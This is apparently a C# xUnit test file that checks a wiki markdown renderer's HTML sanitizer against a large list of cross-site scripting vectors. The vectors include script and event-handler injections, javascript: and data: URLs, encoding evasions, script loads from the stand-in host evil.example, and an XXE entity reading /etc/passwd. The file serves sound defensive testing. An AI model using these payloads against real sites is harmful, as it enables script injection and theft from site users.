using CsCheck;
using Moot.Commons.Texts;
using Xunit;

namespace Moot.Tests.Commons.Texts;

/// <summary>After the OWASP cheat sheet on filter evasion: each vector by every way by which words come into a page.</summary>
public class XssTests
{
    private static readonly string[] Vectors =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<sCrIpT>alert(1)</ScRiPt>",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<SCRIPT/XSS SRC=\"//evil.example/x.js\"></SCRIPT>",
        "<SCRIPT/SRC=\"//evil.example/x.js\"></SCRIPT>",
        "<SCRIPT SRC=//evil.example/x.js?< B >",
        "<SCRIPT SRC=//evil.example/.j>",
        "<script\n>alert(1)</script\n>",
        "<script\0>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)//",
        "<script x> alert(1) </script 1=2",
        "<script type=\"module\">import '//evil.example'</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"XSS\")`>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert(1)\">",
        "<IMG SRC= onmouseover=\"alert(1)\">",
        "<IMG onmouseover=\"alert(1)\">",
        "<IMG SRC=/ onerror=\"alert(1)\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115\">",
        "<IMG SRC=\"jav\tascript:alert(1);\">",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
        "<IMG SRC=\" &#14; javascript:alert(1);\">",
        "<IMG SRC=\"javascript:alert(1)\"",
        "<img src=x:x onerror=alert(1)//",
        "<IMG LOWSRC=\"javascript:alert(1)\">",
        "<IMG DYNSRC=\"javascript:alert(1)\">",
        "<img srcset=\"//evil.example/x 1x\">",
        "<img/src/onerror=alert(1)>",
        "<img src='1' onerror='alert(0)' <",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<BODY ONLOAD=alert(1)>",
        "<BODY BACKGROUND=\"javascript:alert(1)\">",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
        "<iframe src=//evil.example <",
        "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example\"></OBJECT>",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<EMBED SRC=\"//evil.example/x.swf\" AllowScriptAccess=\"always\">",
        "<applet code=x></applet>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
        "<link rel=import href=//evil.example>",
        "<STYLE>@import'//evil.example/x.css';</STYLE>",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS",
        "<STYLE>BODY{-moz-binding:url(\"//evil.example/x.xml#xss\")}</STYLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
        "<DIV STYLE=\"width: expression(alert(1));\">",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD4=\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=x\">",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<base href=//evil.example/>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<form><button formaction=javascript:alert(1)>X</button></form>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<textarea></textarea><script>alert(1)</script>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<BGSOUND SRC=\"javascript:alert(1);\">",
        "<TABLE BACKGROUND=\"javascript:alert(1)\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a onmouseover=\"alert(1)\">x</a>",
        "<a href=\"\\x6A\\x61vascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a target=_blank href=//evil.example>x</a>",
        "<a id=x name=y href=#>z</a>",
        "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext>",
        "<title><script>alert(1)</script></title>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" style=\"position:fixed\" class=\"header",
        "\"/><svg/onload=alert(1)>",
        "` onmouseover=alert(1) `",
        "x\" id=\"main\" name=\"body",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "\u0001javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "java%73cript:alert(1)",
        "javascript://x%0aalert(1)",
        "vbscript:msgbox(1)",
        "livescript:x",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "jar:javascript:alert(1)",
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "http:evil.example",
        "https:/evil.example",
        "http:\\\\evil.example",
        "http://moot.example@evil.example",
        "mailto:a@b.c?subject=<script>",
        "%E2%80%AEjavascript:alert(1)",
        "\u202ejavascript:alert(1)",
        "＜script＞alert(1)＜/script＞",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\ud800<script>",
        "<\u2028script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;script&#62;",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "{@onclick=alert(1)}",
        "{#main .header onclick=alert(1)}",
    ];

    private static readonly string[] Ways =
    [
        "{0}",
        "text {0} text",
        "# {0}",
        "{0}\n===",
        "> {0}",
        "- {0}",
        "`{0}`",
        "```{0}\nx\n```",
        "    {0}",
        "*{0}*",
        "[{0}](x)",
        "[x]({0})",
        "[x](<{0}>)",
        "[x](y \"{0}\")",
        "[x](y '{0}')",
        "![{0}](x)",
        "![x]({0})",
        "![x](y \"{0}\")",
        "![{0}](File:a.png)",
        "![x](File:{0})",
        "<{0}>",
        "<http://{0}>",
        "[x][r]\n\n[r]: {0}",
        "[x][r]\n\n[r]: <{0}> \"{0}\"",
        "[{0}]\n\n[{0}]: {0}",
        "[[{0}]]",
        "[[x|{0}]]",
        "[[{0}|x]]",
        "[[Category:{0}]]",
        "[[:Category:{0}]]",
        "![[File:{0}]]",
        "![[File:a.png|{0}]]",
        "![[File:missing {0}|{0}]]",
        "{{page:{0}}}",
        "a {{page:{0}}} b",
        "|{0}|b|\n|-|-|\n|c|{0}|",
        "x[^{0}]\n\n[^{0}]: {0}",
        "x[^1]\n\n[^1]: {0}",
        "{0}\n:   {0}",
        "- [ ] {0}",
        "[![{0}]({0})]({0})",
        "<div {0}>\n{0}\n</div>",
        "<a href=\"{0}\">{0}</a>",
        "<!-- {0} -->",
        "\\{0}",
        "[x](\n{0}\n\"{0}\")",
    ];

    public static TheoryData<string> EveryWay => [.. Ways];

    [Fact]
    public void There_are_enough_vectors() => Assert.InRange(Vectors.Length, 120, int.MaxValue);

    [Theory]
    [MemberData(nameof(EveryWay))]
    public void No_vector_runs(string way)
    {
        foreach (var vector in Vectors)
        {
            var page = Shown.Of(way.Replace("{0}", vector));
            Shown.MustBeHarmless(page.Html);
            Assert.Equal(page.Html, HtmlWall.Rebuilt(page.Html));
            Assert.All(page.OutsideLinks, l => Assert.Equal(UrlKind.Outside, SafeUrl.Judge(l)));
        }
    }

    [Fact]
    public void Not_even_if_the_commons_itself_answers_with_evil() =>
        Assert.All(
            Vectors,
            v =>
                Shown.MustBeHarmless(
                    MarkdownText
                        .Render("[[a]] ![[File:b.png|x]] [[File:c]] {{page:d}}\n\n{{page:d}}", new(_ => new(v, true), _ => new(v, v, true), _ => v))
                        .Html
                )
        );

    [Fact]
    public void The_second_wall_stands_alone() => Assert.All(Vectors, v => Shown.MustBeHarmless(HtmlWall.Pass(v)));

    /// <summary>Pieces of what the wall writes, put together anyhow: what passes unread is what would have been written.</summary>
    [Fact]
    public void What_the_second_wall_does_not_read_is_as_it_would_write_it()
    {
        string[] pieces =
        [
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            "<ul>",
            "</ul>",
            "<li>",
            "</li>",
            "<dl>",
            "<dt>",
            "</dt>",
            "<dd>",
            "</dd>",
            "</dl>",
            "<table>",
            "<tbody>",
            "<tr>",
            "<td>",
            "</td>",
            "</tr>",
            "</tbody>",
            "</table>",
            "<em>",
            "</em>",
            "<strong>",
            "</strong>",
            "<code>",
            "</code>",
            "<pre>",
            "</pre>",
            "<h2 id=\"s-a\">",
            "</h2>",
            "<a href=\"/page/A\">",
            "<a href=\"https://b.example/?a=1&amp;b=2\" rel=\"nofollow ugc noopener\">",
            "<a href=\"https://b.example/\">",
            "<a href=\"javascript:alert(1)\">",
            "<a href=\"javascript&amp;#58;alert(1)\">",
            "<a title=\"&amp;{x}\">",
            "</a>",
            "<img src=\"/f/a.png\" alt=\"\" loading=\"lazy\">",
            "<br>",
            "<hr>",
            "\n",
            "word",
            "&amp;",
            "&nbsp;",
            "<script>",
            "</script>",
            "<span class=\"task\">",
            "<span class=\"header\">",
            "<span onclick=\"alert(1)\">",
            "</span>",
        ];
        var settled = 0;
        SomeTexts
            .OneOf(pieces)
            .List[1, 8]
            .Select(string.Concat)
            .Sample(
                html =>
                {
                    var passed = HtmlWall.Pass(html);
                    Assert.Equal(HtmlWall.Rebuilt(html), passed);
                    Interlocked.Add(ref settled, string.Equals(passed, html, StringComparison.Ordinal) ? 1 : 0);
                },
                iter: 50_000
            );
        Assert.InRange(settled, 100, int.MaxValue);
    }

    [Fact]
    public void Control_without_walls_it_is_caught()
    {
        var caught = Vectors.Take(16).Count(v => Record.Exception(() => Shown.MustBeHarmless(v)) is not null);
        Assert.Equal(16, caught);
    }

    [Fact]
    public void Nasty_letters_by_chance_are_harmless()
    {
        string[] letters =
        [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "\"",
            "'",
            "`",
            "*",
            "_",
            "~",
            "|",
            "\\",
            "/",
            ":",
            "#",
            "&",
            ";",
            "=",
            "-",
            "+",
            "{",
            "}",
            "^",
            " ",
            "\n",
            "\t",
            "\0",
            "\r",
            "a",
            "1",
            "\u202e",
            "\u0301",
            "😀",
            "[[",
            "]]",
            "![[",
            "{{page:",
            "}}",
            "javascript:",
            "data:",
            "http://",
            "//",
            "<script",
            "<img src=x onerror=",
            "onload=",
            "style=",
            "&#",
            "File:",
            "Category:",
            "Note",
            "[^1]",
            "\n[^1]: ",
            "\n\n",
            "\n- ",
            "\n> ",
            "\n# ",
            "\n|-|-|\n",
            "```",
            "\n:   ",
            "[x]: ",
            "<!--",
            "-->",
            "<a href=\"",
        ];
        SomeTexts
            .OneOf(letters)
            .List[0, 60]
            .Select(string.Concat)
            .Sample(
                text =>
                {
                    var page = Shown.Of(text);
                    Shown.MustBeHarmless(page.Html);
                    Assert.Equal(page.Html, HtmlWall.Rebuilt(page.Html));
                },
                iter: 20_000
            );
    }
}
